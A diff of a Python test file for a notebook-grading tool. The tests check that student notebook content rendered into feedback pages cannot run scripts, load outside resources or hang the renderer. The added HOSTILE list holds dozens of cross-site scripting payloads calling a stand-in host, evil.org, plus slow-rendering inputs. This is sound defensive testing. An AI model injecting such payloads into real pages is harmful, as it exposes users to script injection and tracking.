@@ -1,16 +1,27 @@
 """What people see of a graded notebook: each question once, and of a student's nothing that could run."""
 
-import copy
+import functools
 import html
+import random
 import re
+import time
+from pathlib import Path
 
 import nbformat
 import pytest
-from helpers import ASSIGNMENTS, COURSE, NAMES, ROOT
+from bleach._vendor import html5lib  # reads a page as browsers do
+from conftest import ASSIGNMENTS, NAMES, ROOT
 from nbconvert import HTMLExporter
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
+from nbgrader.converters import GenerateFeedback
+from nbgrader.coursedir import CourseDirectory
+from nbgrader.server_extensions import formgrader
 
-from graders.plugins.feedback import SafeHTML
+from graders.course import load_config
+from graders.plugins import rendering
+from graders.plugins.feedback import markdown_to_html, stream_to_html
 from graders.plugins.normalise import normalised
+from graders.plugins.safe_html import clean
 from graders.source import to_notebook
 
 
@@ -21,30 +32,285 @@ def test_a_release_handed_in_untouched_has_the_cells_of_the_source(name):
     assert [cell.id for cell in normalised(release, source, []).cells] == [cell.id for cell in source.cells]
 
 
+@functools.cache
+def exporter(kind):
+    """The exporter of `nbgrader generate_feedback`, or of the formgrader, with the policy of the course."""
+    config = load_config(ROOT)
+    if kind == "feedback":
+        config = GenerateFeedback(coursedir=CourseDirectory(config=config), config=config).config
+    else:
+        config.HTMLExporter.template_name = "formgrade"
+        config.HTMLExporter.extra_template_basedirs = [str(Path(formgrader.__file__).parent / "templates")]
+    return HTMLExporter(config=config)
+
+
+def page_of(kind, *cells):
+    """The part of a page that shows a notebook, as a browser reads it."""
+    nbgrader = {"notebook": "toy", "score": 0, "max_score": 0, "late_penalty": 0}
+    resources = {"nbgrader": nbgrader, "index": 0, "total": 1}
+    page, _ = exporter(kind).from_notebook_node(nbformat.v4.new_notebook(cells=list(cells)), resources=resources)
+    return html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False).find(".//*[@id='notebook-container']")
+
+
+def every_way(text):
+    """Cells that bring a text into a page in every way there is, between two that say so."""
+    shown = [new_output("display_data", {kind: text}) for kind in KINDS]
+    shown += [new_output("execute_result", {kind: text}) for kind in KINDS]
+    shown += [new_output("display_data", {"text/html": text}, metadata={"text/html": {"isolated": True}})]
+    shown += [new_output("display_data", {"image/png": "AA=="}, metadata={"image/png": {"width": text, "alt": text}})]
+    shown += [new_output("stream", name=name, text=text) for name in ("stdout", "stderr")]
+    shown += [new_output("error", ename=text, evalue=text, traceback=[text, text])]
+    picture = new_markdown_cell("![a dot](attachment:dot.png)", attachments={"dot.png": {text: text}})
+    cells = [new_code_cell(text, outputs=shown), new_markdown_cell(text), new_raw_cell(text), picture]
+    return [new_markdown_cell("BEFORE"), *cells, new_markdown_cell("AFTER")]
+
+
+TYPES = ("image/svg+xml", "image/png", "image/jpeg", "application/javascript", "application/json", "application/pdf")
+KINDS = ("text/html", "text/markdown", "text/latex", "text/plain", *TYPES, "application/vnd.jupyter.widget-view+json")
+# What runs, fetches, sends, leaves the page, or covers it; `evil` is a word that no page has.
+HOSTILE = [
+    "<script>evil()</script>",
+    "<script src=//evil.org></script>",
+    "<img src=x onerror=evil()>",
+    "<img src=https://evil.org/pixel.png>",
+    "<img src=/evil/logout>",
+    "<img srcset='https://evil.org/a 1x'>",
+    "<img src='data:text/html,evil'>",
+    "<picture><source srcset=//evil.org><img></picture>",
+    "![a pixel](https://evil.org/pixel.png)",
+    "![a pixel](/evil/logout)",
+    "![a pixel][1]\n\n[1]: https://evil.org/pixel.png",
+    "<p style='background: url(//evil.org)'>",
+    "<style>@import url(//evil.org);</style>",
+    "<link rel=stylesheet href=//evil.org>",
+    "<body background=//evil.org>",
+    "<table background=//evil.org><td background=//evil.org>",
+    "<svg><image href=//evil.org /><use xlink:href=//evil.org#a /><script>evil()</script></svg>",
+    "<svg onload=evil()>",
+    "<math><mglyph src=//evil.org></math>",
+    "<video poster=//evil.org src=//evil.org autoplay></video>",
+    "<audio src=//evil.org></audio>",
+    "<iframe src=//evil.org srcdoc='<script>evil()</script>'></iframe>",
+    "<object data=//evil.org></object><embed src=//evil.org>",
+    "<base href=//evil.org>",
+    "<meta http-equiv=refresh content='0; url=//evil.org'>",
+    "<form action=//evil.org><input name=evil><button formaction=//evil.org>",
+    "<a href='javascript:evil()'>a</a><a href='java&#115;cript:evil()'>a</a><a href=' java\nscript:evil()'>a</a>",
+    "[a link](javascript:evil()) [a link](JavaScript:evil()) [a link](data:text/html,evil) <javascript:evil()>",
+    "<a href=/evil/logout>a</a> [a link](/evil/logout)",
+    "<a href=https://example.org ping=//evil.org>a</a>",
+    "<div style='position: fixed; top: 0; width: 100%; height: 100%' class='evil navbar-fixed-top modal'>",
+    "<p id=evil name=evil class='score mark-graded' data-link=evil>",
+    "</div></div></div></div></body></html><h1 id=evil>",
+    "--><!--<img title='--><img src=x onerror=evil()>'>",
+    "<noscript><p title='</noscript><img src=x onerror=evil()>'>",
+    "<textarea><img title='</textarea><img src=x onerror=evil()>'>",
+    '"><script>evil()</script>',
+    "```<script>\n<script>evil()</script>\n```",
+    "```mermaid\n</pre><script>evil()</script>\n```",
+    "$<script>evil()</script>$",
+    "\x1b]8;;javascript:evil()\x07<script>evil()</script>\x1b[31m",
+]
+DEAD = {"alt", "title", "name"}  # attributes that are only read
+ALIVE = {
+    "script",
+    "style",
+    "link",
+    "meta",
+    "base",
+    "iframe",
+    "object",
+    "embed",
+    "form",
+    "svg",
+    "math",
+    "video",
+    "audio",
+}
+
+
+@pytest.mark.parametrize("kind", ["feedback", "formgrade"])
+def test_nothing_of_a_student_runs_fetches_sends_leaves_or_covers_the_page(kind):
+    page = page_of(kind, *(cell for text in HOSTILE for cell in every_way(text)))
+    assert {element.tag for element in page.iter()} & ALIVE == set()
+    for element in page.iter():
+        live = {name: value for name, value in element.items() if name not in DEAD}
+        if element.tag == "img":
+            assert live.pop("src").startswith(("data:image/png;", "data:image/jpeg;"))
+        assert "evil" not in str(live), f"{element.tag} {live}"
+        assert not [name for name in live if name.startswith("on")]
+    assert [element.text for element in page.iter("p") if element.text in ("BEFORE", "AFTER")] == [
+        *(["BEFORE", "AFTER"] * len(HOSTILE))
+    ]
+
+
 @pytest.mark.parametrize("name", NAMES)
-def test_what_is_not_the_courses_own_prose_is_cleaned(name):
+def test_the_courses_own_prose_is_shown_as_it_was_written(name):
+    marked = '<p id="of-the-course" class="of-the-course"></p>'
     for cell in to_notebook(ASSIGNMENTS[name]).cells:
         if cell.cell_type == "markdown":
-            marked = copy.deepcopy(cell)
-            marked.source += "\n<svg onload='alert(1)'>"
-            cleaned, _ = SafeHTML().preprocess_cell(copy.deepcopy(marked), {}, 0)
+            cell.source += f"\n\n{marked}\n"
             own = bool(cell.metadata.get("nbgrader"))
-            assert (cleaned == marked) == own, f"{cell.id} {'is changed' if own else 'is shown as it was written'}"
+            shown = markdown_to_html({"cell": cell}, cell.source)
+            assert (marked in shown) == own, f"{cell.id} {'is changed' if own else 'is shown as it was written'}"
 
 
-@pytest.mark.parametrize(
-    "link", ["javascript:alert(1)", "JavaScript:alert(1)", "java&#115;cript:alert(1)", "data:text/html,x"]
-)
-def test_a_link_in_markdown_runs_nothing(link):
-    cell = nbformat.v4.new_markdown_cell(
-        f"[a link]({link}) and [another](https://example.org), ![a dot](attachment:dot.png)"
-    )
-    cell.attachments = {"dot.png": {"image/png": "iVBORw0KGgo="}}
-    page, _ = HTMLExporter(config=COURSE.config()).from_notebook_node(nbformat.v4.new_notebook(cells=[cell]))
-    body = page[page.index("<body") :]
-    assert link not in body
-    assert 'href="https://example.org"' in body
-    assert 'src="data:image/png;base64,iVBORw0KGgo="' in body
+@pytest.mark.parametrize("kind", ["feedback", "formgrade"])
+def test_what_students_write_as_people_do_is_shown(kind):
+    text = """
+# A heading
+
+| a | b |
+|:--|--:|
+| 1 | **2** |
+
+> quoted, as $a < b$ & so on
+
+- [x] done
+
+```python
+def one(): return 1
+```
+[a link](https://example.org) ~~no~~ ![a dot](attachment:dot.png) ![a sketch](attachment:sketch.png)
+"""
+    cell = new_markdown_cell(text, attachments={"dot.png": {"image/png": "iVBORw0KGgo="}})
+    frame = "<style scoped>th {color: red}</style><table><tr style='text-align: right;'><td>7</td></table>"
+    page = page_of(kind, cell, new_code_cell("1", outputs=[new_output("display_data", {"text/html": frame})]))
+    shown = "".join(page.itertext())
+    assert page.find(".//h1").text == "A heading"
+    assert page.find(".//td/strong").text == "2"
+    assert "quoted, as $a < b$ & so on" in page.find(".//blockquote/p").text
+    assert "☑ done" in shown
+    assert page.find(".//span[@class='k']").text == "def"
+    assert page.find(".//a[@href='https://example.org']").text == "a link"
+    assert page.find(".//del").text == "no"
+    assert page.find(".//img[@alt='a dot']").get("src") == "data:image/png;base64,iVBORw0KGgo="
+    assert "(a picture that is not in the notebook: a sketch)" in shown
+    assert page.find(".//tr[@style='text-align: right;']/td").text == "7"
+    assert "color: red" not in shown
+
+
+TAGS = ("a", "b", "p", "div", "table", "td", "li", "h1", "form", "svg", "math", "style", "select", "title")
+SOUP = [f"<{slash}{tag}{more}>" for tag in TAGS for slash in ("", "/") for more in ("", " id=after", " href='a", "/")]
+SOUP += ["<!--", "-->", "<![CDATA[", "&lt;", "&#60;", '"', "'", "<", ">", "\0", "text"]
+
+
+@pytest.mark.parametrize("seed", range(300))
+def test_no_soup_of_tags_leaves_its_place(seed):
+    rng = random.Random(seed)
+    text = "".join(rng.choices(SOUP, k=rng.randint(1, 30)))
+    page = f"<!DOCTYPE html><body><div id=place>{clean(text)}</div><p id=after></p>"
+    body = html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False).find("body")
+    assert [(element.tag, element.get("id")) for element in body] == [("div", "place"), ("p", "after")], text
+
+
+# --- limits -----------------------------------------------------------------------------------------------------------
+
+# Each is repeated until it is long; without limits most of them take minutes to days.
+SLOW = {
+    "html": [
+        *(
+            "<ul><li>",
+            "<b>",
+            "<table><tr><td>",
+            "<a ",
+            "<a '",
+            "<!--",
+            "<a b=",
+            "<p>&",
+            "</b><b>",
+            "<details>",
+            "<",
+            "&#x",
+        )
+    ],
+    "markdown": [
+        *(
+            "\\\\[x",
+            "\\\\(x",
+            "$a",
+            "\\begin{a}",
+            "[",
+            "![",
+            "](",
+            "[a](<",
+            "[^a]",
+            "[a][b]",
+            "[a]: b\n",
+            "<!--",
+            "&#x",
+        ),
+        *("- a\n ", "1. a\n", "a\n: b\n", "|a|b\n", "> ", "#", "*a_", "**a*", "~~a", "`", "a@b.", "```python\n'"),
+    ],
+    "code": ["...", "from . import ", "%", "?", "(", "f'{", "\\N{", "'", "@"],
+}
+SLOW = [(kind, text) for kind, texts in SLOW.items() for text in texts]
+
+
+@pytest.mark.parametrize(("kind", "text"), SLOW)
+def test_a_part_of_a_page_takes_its_seconds_at_most(kind, text):
+    """And the next page is as ever."""
+    render = rendering.Renderer(seconds=0.2, page_seconds=0.2)
+    try:
+        render("html", "")
+        render.begin_page()
+        begun = time.monotonic()
+        made = render(kind, text * (199_000 // len(text)))
+        assert made
+        assert time.monotonic() - begun < 20  # minutes to days otherwise, and this machine may be busy
+        render.begin_page()
+        assert render("html", "<b>x</b>") == "<b>x</b>"
+    finally:
+        render.stop()
+
+
+def test_a_page_of_slow_parts_takes_its_seconds_at_most():
+    render = rendering.Renderer(seconds=0.2, page_seconds=0.3)
+    try:
+        made = [render("markdown", "[" * 100_000) for _ in range(1000)]
+        assert all(rendering.TOO_SLOW in part for part in made)
+        assert rendering.TOO_SLOW in render("html", "<b>x</b>")
+    finally:
+        render.stop()
+
+
+def test_a_slow_part_costs_its_own_place_alone():
+    slow = new_code_cell("1", outputs=[new_output("display_data", {"text/markdown": r"\\[x" * 40_000})])
+    page = page_of("feedback", new_markdown_cell("BEFORE"), slow, new_markdown_cell("AFTER **it**"))
+    shown = "".join(page.itertext())
+    assert rendering.TOO_SLOW in shown
+    assert r"\\[x\\[x\\[x" in shown
+    assert page.find(".//strong").text == "it"
+
+
+@pytest.mark.parametrize("kind", list(rendering.LONGEST))
+def test_a_part_that_is_too_long_is_shown_as_its_start(kind):
+    made = rendering.render(kind, "<b>" + "x" * rendering.LONGEST[kind])
+    assert "&lt;b&gt;xxx" in made
+    assert "further characters are not shown" in made
+    assert len(made) < 30_000
+
+
+def test_nesting_ends_where_no_text_of_a_person_goes():
+    made = clean("<div>" * 5000 + "deep" + "</div>" * 5000)
+    assert made.count("<div>") == made.count("</div>") == 50
+    assert "deep" in made
+
+
+def test_a_page_holds_so_many_outputs_and_no_more():
+    outputs = [new_output("stream", text="a line\n") for _ in range(5000)]
+    picture = new_output("display_data", {"image/png": "A" * 10**6})
+    shown = "".join(page_of("feedback", new_code_cell("1", outputs=outputs), new_code_cell("2")).itertext())
+    assert 990 < shown.count("a line") <= 1000
+    page = page_of("feedback", *(new_code_cell("1", outputs=[picture]) for _ in range(50)))
+    assert len(page.findall(".//img")) == 20
+    assert "no room for more outputs" in "".join(page.itertext())
+
+
+@pytest.mark.parametrize("text", ["\x1b[31ma", "\x1b[", "\x1b[1;"])
+def test_colours_of_a_terminal_take_no_time_however_many(text):
+    assert "\x1b[31m" not in stream_to_html(text * (10**6 // len(text)))
+    assert stream_to_html("\x1b[31mred\x1b[0m <") == '<span class="ansi-red-fg">red</span> &lt;'
 
 
 @pytest.mark.parametrize("name", NAMES)
